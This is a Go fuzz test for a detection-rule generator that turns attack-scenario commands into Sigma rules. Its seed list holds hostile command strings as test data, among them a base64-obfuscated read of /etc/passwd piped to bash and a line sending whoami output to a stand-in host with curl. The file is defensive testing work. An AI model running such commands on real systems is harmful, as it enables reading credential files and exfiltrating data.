package rulegen

import (
	"strings"
	"testing"

	"github.com/rangehunt/rangehunt/internal/scenario"
	"github.com/rangehunt/rangehunt/internal/sigma"
)

// FuzzGenerate feeds arbitrary command strings through mining and rule
// generation for each executor: no panic, no internal error, and every
// rule produced parses without error and has a specific value.
func FuzzGenerate(f *testing.F) {
	seeds := []string{
		"chmod +x /tmp/nmap ; ( /tmp/nmap -Pn -F 172.16.1.4; /tmp/nmap -Pn -p 8530,8531 172.16.1.4 ) 2>/dev/null | grep open ; rm /tmp/nmap",
		`echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | bash`,
		`sh -c 'sh -c "id"'`, `python3 -c "import os"`, `a*b '?' "\\" $'\x00'`,
		`for %i in (a b) do (dir c:\ /b | findstr /e "%i")`, `Get-Item 'a''b' | % { $_ }; & "x.exe" -y`,
		"printf '%s' \"$(whoami)\" | xargs -I{} curl -d {} http://192.0.2.1/", "sudo -u root -- env A=1 nice -n 5 timeout 3 id",
	}
	for _, s := range seeds {
		f.Add(s, uint8(0))
	}
	execs := []string{"sh", "bash", "cmd", "psh", "python"}
	f.Fuzz(func(t *testing.T, cmd string, e uint8) {
		if len(cmd) > 4096 {
			t.Skip()
		}
		exe := execs[int(e)%len(execs)]
		platform := "linux"
		if exe == "cmd" || exe == "psh" {
			platform = "windows"
		}
		s := &scenario.Scenario{Name: "fuzz", Hosts: []scenario.Host{{Name: "h", Platform: platform}},
			Procedures: []scenario.Procedure{{ID: "p", Name: "p", Host: "h", Tactics: []string{"TA0002"},
				Techniques: []string{"T1059"}, Commands: []scenario.Command{{Payload: cmd, Executor: exe}}}}}
		res, err := Generate(s, Options{})
		if err != nil {
			t.Fatalf("%q (%s): %v", cmd, exe, err)
		}
		for i := range res.Rules {
			r := &res.Rules[i]
			_, errs := sigma.Parse(r.Path, r.YAML)
			if err := errs.Err(); err != nil {
				t.Fatalf("%q: rule does not parse: %v\n%s", cmd, err, r.YAML)
			}
			for _, w := range errs {
				if w.Warning && !strings.Contains(w.Msg, "placeholder") {
					t.Errorf("%q: lint warning %v\n%s", cmd, w, r.YAML)
				}
			}
			assertSpecific(t, r)
		}
	})
}
